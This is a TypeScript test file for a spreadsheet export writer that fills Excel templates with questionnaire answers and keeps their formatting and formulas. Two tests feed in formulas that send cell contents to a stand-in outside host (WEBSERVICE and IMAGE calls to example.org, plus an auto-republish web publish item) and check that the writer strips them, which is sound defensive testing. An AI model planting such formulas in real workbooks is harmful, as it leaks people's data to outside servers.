import ExcelJS from 'exceljs'
import { describe, expect, test } from 'vitest'
import {
  bytesOf,
  collected,
  exportOf,
  exportRow,
  onePixel,
  partOf,
  questionnaireOf,
  reopened,
  valuesOf,
} from '../../../../test/support/exports.ts'
import { xlsxOfXml } from '../../../../test/uploads/build-files.ts'
import { printDocument } from '../../../spreadsheets/package/xml-tree.ts'
import { writeWorkbook } from './workbook.ts'

const definition = questionnaireOf({ fullName: 'input', age: 'numeric', born: 'date' })
const people = ['Ana', 'Ben', 'Chi'].map((fullName, index) =>
  exportRow(definition, { fullName, age: String(30 + index), born: '1990-05-06' }),
)

describe('template formatting', () => {
  test('keeps widths, heights, frozen panes, styles and merged cells', async () => {
    const { sheet } = await exported((template) => {
      template.views = [{ state: 'frozen', xSplit: 1, ySplit: 3, rightToLeft: true, zoomScale: 80 }]
      template.columns = [{ width: 31 }, { width: 9, hidden: true }, { style: { numFmt: '0.00' } }]
      template.mergeCells('A1:C1')
      template.getCell('A1').value = '{{$workshopName}}'
      template.getCell('A1').style = {
        font: { bold: true, size: 20, color: { argb: 'FF336699' } },
        fill: { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFEECC' } },
        alignment: { horizontal: 'center', wrapText: true },
        border: { bottom: { style: 'double' } },
      }
      template.getRow(1).height = 40
      template.getRow(4).values = ['{{fullName}}', '{{age}}', '{{age}}', '{{born}}', 'fixed']
      template.getRow(4).height = 25
      template.getCell('A4').style = { font: { italic: true } }
      template.getCell('D4').numFmt = 'dd mmm yyyy'
      template.properties.tabColor = { argb: 'FF00FF00' }
    })
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 3, rightToLeft: true, zoomScale: 80 })
    expect([sheet.getColumn(1).width, sheet.getColumn(2).width, sheet.getColumn(2).hidden]).toEqual([31, 9, true])
    expect(sheet.getCell('A1').value).toBe('Spring & Summer 2025')
    expect(sheet.getCell('C1').master.address).toBe('A1')
    expect(sheet.getCell('A1').style).toMatchObject({
      font: { bold: true, size: 20, color: { argb: 'FF336699' } },
      fill: { fgColor: { argb: 'FFFFEECC' } },
      alignment: { horizontal: 'center', wrapText: true },
      border: { bottom: { style: 'double' } },
    })
    expect(sheet.properties.tabColor).toEqual({ argb: 'FF00FF00' })
    for (const row of [4, 5, 6]) {
      expect(sheet.getRow(row).height).toBe(25)
      expect(sheet.getCell(`A${row}`).font.italic).toBe(true)
      expect([sheet.getCell(`C${row}`).numFmt, sheet.getCell(`D${row}`).numFmt]).toEqual(['0.00', 'dd mmm yyyy'])
      expect(sheet.getCell(`E${row}`).value).toBe('fixed')
    }
    expect(sheet.getCell('D5').value).toEqual(new Date('1990-05-06'))
  })

  test('keeps orientation, margins, titles, print area, header and footer', async () => {
    const { sheet } = await exported((template) => {
      template.pageSetup = {
        orientation: 'landscape',
        paperSize: 9,
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
        printTitlesRow: '1:3',
        printArea: 'A1:E6',
        margins: { left: 0.2, right: 0.3, top: 0.4, bottom: 0.5, header: 0.1, footer: 0.1 },
      }
      template.headerFooter = { oddHeader: '&CRespondents', oddFooter: '&RPage &P of &N' }
      template.getCell('A4').value = '{{fullName}}'
      template.getCell('A6').value = 'end'
    })
    expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0 })
    expect(sheet.pageSetup).toMatchObject({ printTitlesRow: '1:3', printArea: 'A1:E8', margins: { left: 0.2, bottom: 0.5 } })
    expect(sheet.headerFooter).toMatchObject({ oddHeader: '&CRespondents', oddFooter: '&RPage &P of &N' })
  })

  test('keeps filters, rules, lists, links, notes and pictures', async () => {
    const { sheet, workbook } = await exported((template, book) => {
      template.autoFilter = 'A3:C4'
      template.getCell('A4').value = '{{fullName}}'
      template.getCell('B4').value = '{{age}}'
      template.getCell('B4').dataValidation = { type: 'list', formulae: ['$A$7:$A$8'], allowBlank: true }
      template.addConditionalFormatting({
        ref: 'B4',
        rules: [{ type: 'expression', priority: 1, formulae: ['$B4>$B$7'], style: { font: { color: { argb: 'FFFF0000' } } } }],
      })
      template.getCell('A1').value = { text: 'Help', hyperlink: 'https://example.org/help' }
      template.getCell('A6').note = 'Counted by hand'
      template.getCell('A6').value = 'end'
      template.addImage(book.addImage({ buffer: onePixel as never, extension: 'png' }), {
        tl: { col: 0, row: 6 },
        ext: { width: 10, height: 10 },
      })
    })
    expect(sheet.autoFilter).toBe('A3:C6')
    expect(sheet.getCell('B6').dataValidation).toMatchObject({ type: 'list', formulae: ['$A$9:$A$10'] })
    const rules = (sheet as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings
    expect(rules).toMatchObject([{ ref: 'B4:B6', rules: [{ formulae: ['$B4>$B$9'], style: { font: { color: { argb: 'FFFF0000' } } } }] }])
    expect(sheet.getCell('A1').hyperlink).toBe('https://example.org/help')
    expect(sheet.getCell('A8').value).toBe('end')
    expect(JSON.stringify(sheet.getCell('A8').note)).toContain('Counted by hand')
    expect(sheet.getImages()[0]?.range.tl.nativeRow).toBe(8)
    expect(workbook.model.media).toHaveLength(1)
  })

  test('keeps sheets without answers, hidden ones too', async () => {
    const { workbook } = await exported((template, book) => {
      template.getCell('A4').value = '{{fullName}}'
      const notes = book.addWorksheet('Notes', { state: 'hidden' })
      notes.addRow(['text', 5, true, new Date('2025-01-02'), { richText: [{ text: 'plain ' }, { font: { bold: true }, text: 'bold' }] }])
      notes.getCell('D1').numFmt = 'yyyy-mm-dd'
    })
    const notes = workbook.getWorksheet('Notes')
    expect(notes?.state).toBe('hidden')
    expect(valuesOf(workbook, 'Notes')).toEqual([
      [
        'text',
        5,
        true,
        new Date('2025-01-02'),
        { richText: [{ text: 'plain ' }, { font: expect.objectContaining({ bold: true }), text: 'bold' }] },
      ],
    ])
  })
})

describe('rows below the answer row', () => {
  test('move down, and formulas are adjusted', async () => {
    const { sheet, workbook } = await exported((template, book) => {
      template.getCell('A1').value = { formula: 'COUNTA(A4:A4)', result: 1 }
      template.getRow(4).values = ['{{fullName}}', '{{age}}']
      template.getRow(6).values = ['Total', { formula: 'SUM(B4:B4)+A1', result: 0 }, 'of {{$respondentCount}}']
      template.mergeCells('A8:C9')
      template.getCell('A8').value = 'signature'
      template.getRow(8).height = 33
      book.addWorksheet('Sums').getCell('A1').value = { formula: "SUM('People here'!B4:B4)-'People here'!B6", result: 0 }
    })
    expect(sheet.getColumn(1).values.slice(4, 7)).toEqual(['Ana', 'Ben', 'Chi'])
    expect(sheet.getCell('A1').formula).toBe('COUNTA(A4:A6)')
    expect([sheet.getCell('A8').value, sheet.getCell('B8').formula, sheet.getCell('C8').value]).toEqual(['Total', 'SUM(B4:B6)+A1', 'of 3'])
    expect([sheet.getCell('A10').value, sheet.getCell('C11').master.address, sheet.getRow(10).height]).toEqual(['signature', 'A10', 33])
    expect(workbook.getWorksheet('Sums')?.getCell('A1').formula).toBe("SUM('People here'!B4:B6)-'People here'!B8")
  })

  test('stay in place with one respondent or none', async () => {
    for (const rows of [people.slice(0, 1), []]) {
      const { sheet } = await exported((template) => {
        template.getCell('A4').value = '{{fullName}}'
        template.getCell('A4').style = { font: { bold: true } }
        template.getCell('A5').value = { formula: 'COUNTA(A4:A4)', result: 0 }
      }, rows)
      expect([sheet.getCell('A4').value, sheet.getCell('A5').formula]).toEqual([rows.length > 0 ? 'Ana' : null, 'COUNTA(A4:A4)'])
    }
  })

  test('lose formulas that could reach outside the workbook, but keep their stored values', async () => {
    const { sheet } = await exported((template) => {
      template.getCell('A4').value = '{{fullName}}'
      template.getCell('B6').value = { formula: 'WEBSERVICE("https://example.org/?"&A4)', result: 'stored' }
      template.getCell('C6').value = { formula: 'COUNTA(A4:A4)', result: 0 }
      const formulae = ['IMAGE("https://example.org/?"&A4)="x"']
      template.addConditionalFormatting({
        ref: 'D6',
        rules: [{ type: 'expression', priority: 1, formulae, style: { font: { bold: true } } }],
      })
    })
    expect([sheet.getCell('B8').value, sheet.getCell('C8').formula]).toEqual(['stored', 'COUNTA(A4:A6)'])
    expect(JSON.stringify(sheet.model)).not.toContain('example.org')
  })

  test('lose everything else that could reach outside the workbook', async () => {
    const outside = 'WEBSERVICE(&quot;https://example.org/?&quot;&amp;$A$1)'
    const alternative = `<mc:AlternateContent><mc:Choice Requires="x14"><f>${outside}</f></mc:Choice></mc:AlternateContent>`
    const scale = (value: string) => `<cfvo type="formula" val="${value}"/><color rgb="FFFF0000"/>`
    const xml = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><sheetData>
        <row r="1"><c r="A1" t="inlineStr"><is><t>{{fullName}}</t></is></c></row>
        <row r="2"><c r="A2">${alternative}<v>7</v></c></row>
      </sheetData><conditionalFormatting sqref="A2"><cfRule type="colorScale" priority="1"><colorScale>
        ${scale(outside)}${scale('$A$2+1')}
      </colorScale></cfRule></conditionalFormatting>
      <webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="https://example.org/x" autoRepublish="1"/>
      </webPublishItems></worksheet>`
    const template = await xlsxOfXml(['People here'], [xml])
    const bytes = await collected(writeWorkbook(exportOf(template, definition, people)))
    const sheet = printDocument(await partOf(bytes, 'xl/worksheets/sheet1.xml'))
    expect(sheet).toContain('<c r="A4"><v>7</v></c>')
    expect(sheet).toContain('val="$A$4+1"')
    expect(sheet).not.toContain('example.org')
  })

  test('at the bottom of the sheet are left out if they have no content', async () => {
    const { sheet } = await exported((template) => {
      template.getCell('A4').value = '{{fullName}}'
      template.getCell('A1048576').note = 'left by accident'
      template.getRow(1_048_575).height = 33
    })
    expect(sheet.getColumn(1).values.slice(4)).toEqual(['Ana', 'Ben', 'Chi'])
  })

  test('throw if they no longer fit on the sheet', async () => {
    const making = exported((template) => {
      template.getCell('A4').value = '{{fullName}}'
      template.getCell('A1048576').value = 'last'
    })
    await expect(making).rejects.toThrow('a sheet holds 1048576 rows')
  })
})

describe('several questionnaires', () => {
  test('follow one another in one file, each with its own formatting', async () => {
    const first = new ExcelJS.Workbook()
    const second = new ExcelJS.Workbook()
    for (const [book, color] of [
      [first, 'FF111111'],
      [second, 'FF222222'],
    ] as const) {
      const sheet = book.addWorksheet('People here')
      sheet.getRow(2).values = ['{{fullName}}']
      sheet.getCell('A2').font = { color: { argb: color }, size: color === 'FF111111' ? 9 : 17 }
      sheet.getCell('B3').numFmt = color === 'FF111111' ? '0.0"a"' : '0.0"b"'
      sheet.getCell('B3').value = 1
      sheet.addConditionalFormatting({
        ref: 'A2',
        rules: [{ type: 'expression', priority: 1, formulae: ['TRUE'], style: { font: { color: { argb: color } } } }],
      })
      sheet.addTable({ name: 'Extra', ref: 'D1', columns: [{ name: 'x' }], rows: [['y']] })
      book.addWorksheet('a sheet whose name is quite lon').getCell('A1').value = { formula: "COUNTA('People here'!A2:A2)", result: 0 }
      book.getWorksheet('a sheet whose name is quite lon')!.getCell('A2').value = { formula: 'ROWS(Extra[x])', result: 0 }
      book.definedNames.add("'People here'!$A$2:$A$2", 'everybody')
    }
    const { facts } = exportOf(new Uint8Array(), definition, people)
    const rows = async function* () {
      yield* people
    }
    const parts = await Promise.all([first, second].map(async (book) => ({ template: await bytesOf(book), definition, rows, count: 3 })))
    const workbook = await reopened(writeWorkbook({ parts, facts: { ...facts, respondentCount: 6 } }))
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      'People here',
      'a sheet whose name is quite lon',
      'People here (2)',
      'a sheet whose name is quite (2)',
    ])
    const looks = ['People here', 'People here (2)'].map((name) => {
      const sheet = workbook.getWorksheet(name)
      return [sheet?.getCell('A4').font.color?.argb, sheet?.getCell('A4').font.size, sheet?.getCell('B5').numFmt]
    })
    expect(looks).toEqual([
      ['FF111111', 9, '0.0"a"'],
      ['FF222222', 17, '0.0"b"'],
    ])
    expect(workbook.worksheets[3]?.getCell('A1').formula).toBe("COUNTA('People here (2)'!A2:A4)")
    const rules = workbook.worksheets.map(
      (sheet) => (sheet as unknown as { conditionalFormattings: { rules: { style: unknown }[] }[] }).conditionalFormattings,
    )
    expect(rules[2]).toMatchObject([{ ref: 'A2:A4', rules: [{ style: { font: { color: { argb: 'FF222222' } } } }] }])
    const tables = workbook.worksheets
      .flatMap((sheet) => sheet.getTables())
      .map((table) => (table as unknown as { table: { name: string } }).table.name)
    expect(tables).toEqual(['Extra', 'Extra_2'])
    expect([1, 3].map((index) => workbook.worksheets[index]?.getCell('A2').formula)).toEqual(['ROWS(Extra[x])', 'ROWS(Extra_2[x])'])
  })
})

async function exported(make: (sheet: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void, rows = people) {
  const template = new ExcelJS.Workbook()
  make(template.addWorksheet('People here'), template)
  const workbook = await reopened(writeWorkbook(exportOf(await bytesOf(template), definition, rows)))
  const sheet = workbook.getWorksheet('People here')
  if (!sheet) throw new Error('the sheet is gone')
  return { workbook, sheet }
}
